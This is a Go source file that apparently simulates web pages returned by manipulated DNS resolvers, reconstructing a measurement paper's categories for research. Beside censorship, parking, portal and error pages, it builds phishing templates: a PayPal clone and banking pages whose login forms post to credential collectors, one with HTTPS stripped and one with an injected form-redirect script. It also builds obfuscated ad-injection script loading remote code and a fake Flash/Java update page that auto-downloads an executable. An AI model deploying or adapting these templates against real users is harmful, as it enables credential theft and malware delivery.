@@ -1,0 +1,221 @@
+package websim
+
+import (
+	"fmt"
+	"strings"
+)
+
+// censorPage renders a censorship landing page. The text fragments are
+// what the paper's labeling keys on ("blocked by the order of [...]
+// court/authority", §4.2).
+func censorPage(country string, slot int) string {
+	p := &page{title: "Access to this website has been blocked"}
+	authority := "court"
+	if slot%2 == 1 {
+		authority = "authority"
+	}
+	p.el("h1", "", "Access Denied")
+	p.el("p", "class=\"notice\"", fmt.Sprintf(
+		"Access to this website has been blocked by the order of the %s %s in accordance with national law.",
+		countryName(country), authority))
+	p.el("p", "class=\"ref\"", fmt.Sprintf("Decision reference %s-%04d.", country, 1000+slot*7))
+	p.raw(fmt.Sprintf("<img src=\"/seal-%s.png\" alt=\"official seal\">", strings.ToLower(country)))
+	p.el("footer", "", "If you believe this is an error, contact your service provider.")
+	return p.render()
+}
+
+// countryName expands the ISO code for the landing-page text.
+func countryName(code string) string {
+	names := map[string]string{
+		"CN": "Chinese", "IR": "Iranian", "ID": "Indonesian", "TR": "Turkish",
+		"MY": "Malaysian", "MN": "Mongolian", "GR": "Greek", "BE": "Belgian",
+		"IT": "Italian", "RU": "Russian", "EE": "Estonian", "SA": "Saudi",
+		"AE": "Emirati", "PK": "Pakistani", "VN": "Vietnamese", "TH": "Thai",
+		"EG": "Egyptian", "DZ": "Algerian", "MA": "Moroccan", "TN": "Tunisian",
+		"SY": "Syrian", "IQ": "Iraqi", "JO": "Jordanian", "KW": "Kuwaiti",
+		"BD": "Bangladeshi", "LK": "Sri Lankan", "KZ": "Kazakh", "UA": "Ukrainian",
+		"BG": "Bulgarian", "RO": "Romanian", "HU": "Hungarian", "IN": "Indian",
+		"KR": "South Korean", "SG": "Singaporean",
+	}
+	if n, ok := names[code]; ok {
+		return n
+	}
+	return code
+}
+
+// blockPage renders non-governmental blocking: parental control, ISP
+// security filters, sinkhole notices.
+func blockPage(slot int) string {
+	providers := []string{
+		"NetNanny Family Shield", "SafeSurf ISP Filter", "SecureDNS Threat Protection",
+		"CleanBrowsing Gateway", "Sinkhole — Shadowserver Foundation", "OpenShield Web Guard",
+	}
+	provider := providers[slot%len(providers)]
+	p := &page{title: "Website blocked - " + provider}
+	p.el("h1", "", "This website has been blocked")
+	p.el("p", "", fmt.Sprintf("The requested page was blocked by %s because it is categorized as forbidden or malicious content.", provider))
+	p.el("p", "class=\"hint\"", "Contact the network administrator to request access.")
+	p.raw("<img src=\"/shield.png\" alt=\"shield\">")
+	return p.render()
+}
+
+// parkingPage renders a domain-reseller landing page.
+func parkingPage(host string, slot int) string {
+	resellers := []string{"NameBazaar", "ParkingCrew", "DomainMonetize", "SedoStyle"}
+	r := resellers[slot%len(resellers)]
+	p := &page{title: host + " - domain is for sale"}
+	p.el("h1", "", fmt.Sprintf("%s is parked", host))
+	p.el("p", "", fmt.Sprintf("This domain is registered and parked at %s. It may be for sale by its owner.", r))
+	for i := 0; i < 6; i++ {
+		p.raw(fmt.Sprintf("<div class=\"sponsored\"><a href=\"http://click.%s.example/r?k=%d\">Related link %d</a></div>",
+			strings.ToLower(r), (slot*13+i)%97, i+1))
+	}
+	p.el("footer", "", fmt.Sprintf("<a href=\"http://www.%s.example/buy?domain=%s\">Buy this domain</a>", strings.ToLower(r), host))
+	p.addScript(fmt.Sprintf("var feed=%q;window.parkingFeed=feed;", r))
+	return p.render()
+}
+
+// searchLandingPage renders NX-monetization search pages.
+func searchLandingPage(host string, slot int) string {
+	p := &page{title: "Search results for " + host}
+	p.el("h1", "", "Did you mean...")
+	p.raw("<form action=\"/search\" method=\"GET\"><input type=\"text\" name=\"q\"><button>Search</button></form>")
+	for i := 0; i < 5; i++ {
+		p.raw(fmt.Sprintf("<div class=\"result\"><a href=\"http://redirect.sponsored.example/c?id=%d\">Sponsored result %d for %s</a></div>", slot*11+i, i+1, host))
+	}
+	p.el("div", "class=\"adbar\"", "<img src=\"http://banner.sponsored.example/b1.gif\">")
+	p.addScript("function go(q){location='/search?q='+encodeURIComponent(q);}")
+	return p.render()
+}
+
+// fakeSearchWithAds mimics a major search page but embeds ad banners
+// under the search bar (§4.3).
+func fakeSearchWithAds(slot int) string {
+	base := searchEnginePage("google.com")
+	inject := fmt.Sprintf("<div class=\"banner\"><a href=\"http://adsrv.fakesearch.example/c?%d\"><img src=\"http://adsrv.fakesearch.example/banner%d.gif\"></a></div>\n</body>", slot, slot%3)
+	return strings.Replace(base, "</body>", inject, 1)
+}
+
+// adInjectHTML renders ad-provider responses with foreign banners
+// injected into the HTML.
+func adInjectHTML(host string, slot int) string {
+	base := adProviderPage(host, 0xAD0)
+	inject := fmt.Sprintf("<div class=\"inj\"><a href=\"http://click.adswapper.example/cc?%d\"><img src=\"http://cdn.adswapper.example/banner.gif\"></a></div>\n</body>", slot)
+	return strings.Replace(base, "</body>", inject, 1)
+}
+
+// adInjectJS renders ad-provider responses carrying suspicious script.
+func adInjectJS(host string, slot int) string {
+	p := &page{title: "ad delivery"}
+	p.addScript(fmt.Sprintf("var _0xf%d=['\\x68\\x74\\x74\\x70','adswapper'];(function(d){var s=d.createElement('script');s.src='http://js.adswapper.example/p.js?v=%d';d.body.appendChild(s);})(document);", slot, slot))
+	p.addScript("document.write('<div id=\\'sp\\'></div>');")
+	return p.render()
+}
+
+// adBlockEmpty renders blocked-ad placeholders.
+func adBlockEmpty() string {
+	p := &page{title: ""}
+	p.raw("<div class=\"ad-placeholder\" style=\"width:1px;height:1px\"></div>")
+	return p.render()
+}
+
+// loginPortal renders the captive-portal / login-page family (10.9% of
+// suspicious answers land here, §4.2).
+func loginPortal(slot int) string {
+	kinds := []struct{ title, org string }{
+		{"Hotel Guest WiFi Login", "Grand Plaza Hotel"},
+		{"Campus Network Sign-In", "State University"},
+		{"Hotspot Access Portal", "AirFree Networks"},
+		{"Webmail Login", "MailHost"},
+		{"ISP Customer Portal", "ConnectNet"},
+	}
+	k := kinds[slot%len(kinds)]
+	p := &page{title: k.title}
+	p.el("h1", "", k.org)
+	p.raw("<form action=\"/portal/auth\" method=\"POST\"><input type=\"text\" name=\"username\"><input type=\"password\" name=\"password\"><button>Sign in</button></form>")
+	p.el("p", "class=\"terms\"", "By signing in you accept the acceptable-use policy.")
+	return p.render()
+}
+
+// routerLogin renders the web login page of consumer networking gear (the
+// self-IP resolvers redirect every domain here; 91.7% of Login-category
+// answers are routing equipment of two large manufacturers, §4.2).
+func routerLogin(deviceName, realm string) string {
+	p := &page{title: realm + " - Login"}
+	p.el("h1", "", realm)
+	p.raw("<form action=\"/cgi-bin/login\" method=\"POST\"><input type=\"password\" name=\"admin_pass\"><button>Login</button></form>")
+	p.el("p", "class=\"fw\"", fmt.Sprintf("Device %s. Please enter the administrator password.", deviceName))
+	return p.render()
+}
+
+// errorPage renders the HTTP-error family.
+func errorPage(slot int) (int, string) {
+	variants := []struct {
+		status int
+		title  string
+		body   string
+	}{
+		{404, "404 Not Found", "<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache Server</address>"},
+		{403, "403 Forbidden", "<h1>Forbidden</h1><p>You don't have permission to access this resource.</p>"},
+		{500, "500 Internal Server Error", "<h1>Internal Server Error</h1><p>The server encountered an internal error.</p>"},
+		{400, "400 Bad Request", "<h1>Bad Request</h1><p>Your browser sent a request that this server could not understand.</p><hr><address>nginx</address>"},
+		{502, "502 Bad Gateway", "<h1>502 Bad Gateway</h1><center>nginx/1.4.6</center>"},
+		{200, "It works!", "<h1>It works!</h1><p>This is the default web page for this server.</p>"},
+		{200, "Invalid request", "<h1>Invalid Hostname</h1><p>No site is configured at this address.</p>"},
+	}
+	v := variants[slot%len(variants)]
+	p := &page{title: v.title}
+	p.raw(v.body)
+	return v.status, p.render()
+}
+
+// phishPayPal reconstructs the PayPal phishing page of §4.3: the body is
+// 46 <img> tags reproducing the website plus a POST form toward a PHP
+// credential collector.
+func phishPayPal(slot int) string {
+	p := &page{title: "PayPal - Log In"}
+	for i := 0; i < 46; i++ {
+		p.raw(fmt.Sprintf("<img src=\"slice_%02d.jpg\" class=\"s%d\">", i, i))
+	}
+	p.raw(fmt.Sprintf("<form action=\"gate%d.php\" method=\"POST\"><input type=\"text\" name=\"email\"><input type=\"password\" name=\"pw\"><button>Log In</button></form>", slot%3))
+	return p.render()
+}
+
+// phishBank mimics the Italian banking site with an HTTP-only credential
+// form.
+func phishBank(domain string, hostCountry string) string {
+	base := bankingPage(domain, 0xF00D)
+	// Downgrade every HTTPS reference and swap the form target to the
+	// collector, keeping the page structurally near-identical.
+	out := strings.ReplaceAll(base, "https://"+domain, "http://"+domain)
+	out = strings.Replace(out, fmt.Sprintf("action=\"http://%s/auth/login\"", domain),
+		"action=\"collect.php\"", 1)
+	out = strings.Replace(out, "</body>", fmt.Sprintf("<!-- mirror %s -->\n</body>", hostCountry), 1)
+	return out
+}
+
+// phishGeneric produces a slightly modified copy of a banking page: same
+// structure with an injected credential-forwarding script, the "small
+// modification" the fine-grained diff clustering looks for (§3.6).
+func phishGeneric(domain string, slot int) string {
+	base := bankingPage(domain, 0xF00D)
+	inject := fmt.Sprintf("<script type=\"text/javascript\">document.getElementById('login').action='http://collector-%d.example/p.php';</script>\n</body>", slot)
+	return strings.Replace(base, "</body>", inject, 1)
+}
+
+// malwareUpdatePage renders the fake Flash/Java update pages whose
+// download links serve malware droppers (§4.3).
+func malwareUpdatePage(host string, slot int) string {
+	product := "Adobe Flash Player"
+	file := "flash_update.exe"
+	if strings.Contains(host, "oracle") || strings.Contains(host, "java") {
+		product = "Java Runtime Environment"
+		file = "jre_setup.exe"
+	}
+	p := &page{title: product + " Update Required"}
+	p.el("h1", "", fmt.Sprintf("Your %s is out of date", product))
+	p.el("p", "", "A critical security update is available. Install it now to keep your computer protected.")
+	p.raw(fmt.Sprintf("<a class=\"dl\" href=\"/%s?c=%d\"><img src=\"download_button.png\"></a>", file, slot))
+	p.addScript(fmt.Sprintf("setTimeout(function(){location='/%s?auto=1';},3000);", file))
+	return p.render()
+}
